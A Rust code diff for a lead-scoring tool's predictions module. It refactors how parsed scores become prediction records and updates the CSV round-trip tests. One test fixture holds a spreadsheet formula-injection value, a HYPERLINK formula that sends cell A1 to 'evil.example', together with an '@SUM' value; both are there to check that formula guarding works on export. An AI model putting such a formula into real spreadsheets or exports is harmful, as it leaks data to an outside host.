@@ -8,10 +8,12 @@ use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 
+mod status;
+
+pub use status::Status;
+
 use crate::atomic::AtomicFile;
 use crate::lead::{Label, LeadError, guard_formula, unguard_formula};
-use crate::score::llm::Status;
-use crate::score::{Bands, Score};
 
 /// What one scorer said about one lead in one repeat, with everything it cost.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -72,34 +74,6 @@ impl Prediction {
             cached: false,
             raw_response: String::new(),
         }
-    }
-
-    /// Records a parsed score: label, score, justification, class probabilities, and whether
-    /// label and score agree under `bands`.
-    pub fn set_score(&mut self, score: Score, bands: &Bands) {
-        self.consistent = Some(score.is_consistent(bands));
-        [self.p_low, self.p_medium, self.p_high] = match score.probabilities {
-            Some(p) => p.map(Some),
-            None => [None; 3],
-        };
-        self.lead_score = Some(score.lead_score);
-        self.lead_label = Some(score.lead_label);
-        self.justification = score.justification;
-    }
-
-    /// A parsed prediction from an in-process scorer.
-    pub fn from_score(
-        run_id: &str,
-        lead_id: &str,
-        scorer: &str,
-        score: Score,
-        bands: &Bands,
-        latency_ms: f64,
-    ) -> Prediction {
-        let mut p = Prediction::empty(run_id, lead_id, scorer, 0, Status::Ok);
-        p.set_score(score, bands);
-        p.latency_ms = latency_ms;
-        p
     }
 
     /// The (label, score) pair when the prediction was parsed.
@@ -258,6 +232,8 @@ fn read_predictions_with(
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::lead::Bands;
+    use crate::score::Score;
 
     #[test]
     fn predictions_round_trip_through_csv() {
@@ -267,7 +243,7 @@ mod tests {
             justification: "size 1,200 (+15); \"pricing\"".into(),
             probabilities: Some([0.1, 0.6, 0.3]),
         };
-        let mut a = Prediction::from_score("r", "L1", "learned", score, &Bands::default(), 0.5);
+        let mut a = score.into_prediction("r", "L1", "learned", &Bands::default(), 0.5);
         a.raw_response = "line one\nline, two".into();
         let mut b = a.clone();
         b.lead_id = "L2".into();
@@ -299,7 +275,7 @@ mod tests {
             justification: "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".into(),
             probabilities: None,
         };
-        let mut p = Prediction::from_score("r", "-L1", "llm/m/p", score, &Bands::default(), 1.0);
+        let mut p = score.into_prediction("r", "-L1", "llm/m/p", &Bands::default(), 1.0);
         p.raw_response = "@SUM(1+1)".into();
         p.error = "'=already quoted".into();
         let dir = tempfile::tempdir().expect("tempdir");
